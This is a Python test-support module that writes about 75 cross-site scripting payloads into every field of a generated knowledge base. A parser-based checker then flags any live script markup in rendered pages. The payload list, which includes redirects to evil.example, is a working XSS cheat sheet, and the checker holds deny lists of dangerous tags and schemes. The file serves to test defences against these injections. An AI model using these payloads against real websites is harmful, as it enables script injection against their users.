"""XSS payloads, a knowledge base whose every displayed text field carries them, and a checker
that finds live markup in a page. Shared by tests/test_xss.py (html.parser) and the browser test.

Every payload that runs sets ``document.title`` to /PWNED/ (written without quotes, so it fits
in unquoted attributes): the browser test looks for that title.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

RUN = "document.title=/PWNED/"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;">',
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="JaVaScRiPt:{RUN}">x</a>',
    f'<a href="&#106;avascript:{RUN}">x</a>',
    f'<a href="java&#x09;script:{RUN}">x</a>',
    f'<a href=" javascript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<img src="data:image/svg+xml,<svg onload={RUN}>">',
    f'<object data="data:text/html,<script>{RUN}</script>">',
    f'<embed src="javascript:{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<style>@import 'javascript:{RUN}';</style>",
    f'<style>body{{background:url("javascript:{RUN}")}}</style>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<base href="javascript:{RUN}//">',
    f'<form action="javascript:{RUN}"><input type=submit></form>',
    f"<template><img src=x onerror={RUN}></template>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"</script><img src=x onerror={RUN}>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    "%3Cimg%20src%3Dx%20onerror%3Ddocument.title%3D%2FPWNED%2F%3E",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"[x](javascript:{RUN})",
    f"![x](javascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<javascript:{RUN}>",
    f"[x](&#106;avascript:{RUN})",
    f'<a href="vbscript:{RUN}">x</a>',
    f'<link rel=stylesheet href="javascript:{RUN}">',
    f'<div style="background-image:url(javascript:{RUN})">x</div>',
    f"<isindex action=javascript:{RUN} type=submit>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<img src=`x` onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<xss onpointerover={RUN} style=display:block>x",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<frameset onload={RUN}>",
    "{{constructor.constructor('document.title=1')()}}",
    "{{ config }}{% print 7*7 %}",
    f'<img src="x" onerror="{RUN}"',
    f'<a href="https://ok.example/" onmouseover="{RUN}">x</a>',
    f'<p style="x:expression({RUN})">x</p>',
    f"<svg/onload={RUN}>",
    f"<img/src/onerror={RUN}>",
    f"<a href=javascript:{RUN}>x",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    f"<form><button formaction=javascript:{RUN}>x",
    f"<body/onpageshow={RUN}>",
    f"<style>*{{x:expression({RUN})}}</style>",
    "<iframe srcdoc=<b>x>",
    f"<a href=data:,{RUN}>x</a>",
]
assert len(PAYLOADS) >= 50

# Schemes and attributes a payload may not bring to life.
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "srcdoc"}
_FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "template", "isindex", "noscript", "math"}
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):")


def _yaml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # the payloads are BMP-only: valid TOML basic strings


def _url(payload: str) -> str:
    return "https://example.org/?p=" + re.sub(r"\s", "+", payload)


def write_knowledge_base(root: Path) -> None:
    """One source, two claims and one entity per payload; every displayed text field carries it."""
    entities = []
    for i, payload in enumerate(PAYLOADS):
        subject = f"Subject {i} {payload}"
        entities.append(f"[entities.e{i}]\nname = {_toml(f'Entity {i} {payload}')}\naliases = [{_toml(subject)}]\n")
        tags = f"tags: [{_yaml(payload)}]\n" if len(payload) <= 60 else ""
        folder = root / "sources" / "p"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"s{i}.md").write_text(
            f"---\nid: s{i}\ntitle: {_yaml(f'Title {i} {payload}')}\ntype: article\n"
            f"publisher: {_yaml(f'Publisher {i} {payload}')}\nurl: {_yaml(_url(payload))}\n"
            f"authors: [{_yaml(payload)}]\n{tags}---\n{payload}\n\nSource notes {i}: {payload}\n",
            encoding="utf-8",
        )
        folder = root / "claims" / "c"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"a{i}.md").write_text(
            f"---\nid: a{i}\nstatement: {_yaml(f'Statement {i} {payload}')}\nkind: fact\n"
            f"subject: {_yaml(subject)}\nmetric: net_loss\nvalue: {i + 1}\nunit: USD\nperiod: 2024\n"
            f"claimant: {_yaml(payload)}\n{tags}"
            f"evidence:\n  - source: s{i}\n    quote: {_yaml(payload)}\n    locator: {_yaml(payload)}\n"
            f"    note: {_yaml(payload)}\n    stated_as: {_yaml(payload)}\n"
            f"---\n{payload}\n\nClaim notes {i}: {payload}\n",
            encoding="utf-8",
        )
        (folder / f"b{i}.md").write_text(
            f"---\nid: b{i}\nstatement: {_yaml(f'Opinion {i} {payload}')}\nkind: opinion\n"
            f"subject: {_yaml(subject)}\n{tags}"
            f"contradicts:\n  - claim: a{i}\n    note: {_yaml(payload)}\n"
            f"acknowledge:\n  KB201: {_yaml(payload)}\n---\n{payload}\n",
            encoding="utf-8",
        )
    (root / "kb.toml").write_text('today = "2026-11-23"\n' + "".join(entities), encoding="utf-8")


class LiveMarkup(HTMLParser):
    """Collects what in a page could run script: inline scripts, on* attributes, script URLs,
    elements that load or frame other documents."""

    def __init__(self, trusted_script):
        super().__init__(convert_charrefs=True)
        self.trusted = trusted_script
        self.problems: list[str] = []
        self._script: list[str] | None = None
        self._style: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)
        if tag == "script":
            self._script = None

    def _check(self, tag, attrs):
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            compact = re.sub(r"[\s\x00-\x1f]", "", (value or "")).lower()
            if name in _URL_ATTRIBUTES and _BAD_SCHEME.match(compact):
                self.problems.append(f"<{tag} {name}={value[:40]!r}>")
            if name == "style" and ("javascript:" in compact or "expression(" in compact):
                self.problems.append(f"<{tag} style={value[:40]!r}>")
        if tag == "script":
            if dict(attrs).get("src", "/").startswith(("/", "http://127.0.0.1", "http://localhost")):
                self._script = []
            else:
                self.problems.append(f"<script src={dict(attrs).get('src')!r}>")
        if tag == "style":
            self._style = []

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(data)
        if self._style is not None:
            self._style.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            text = "".join(self._script)
            if text.strip() and not self.trusted(text):
                self.problems.append(f"inline <script>{text[:60]!r}")
            self._script = None
        if tag == "style" and self._style is not None:
            text = "".join(self._style)
            if "PWNED" in text or "javascript:" in text:
                self.problems.append(f"<style>{text[:60]!r}")
            self._style = None


def live_markup(page: str, trusted_script) -> list[str]:
    """What could run in ``page``; ``trusted_script(text)`` says which inline scripts are the site's."""
    parser = LiveMarkup(trusted_script)
    parser.feed(page)
    parser.close()
    return parser.problems
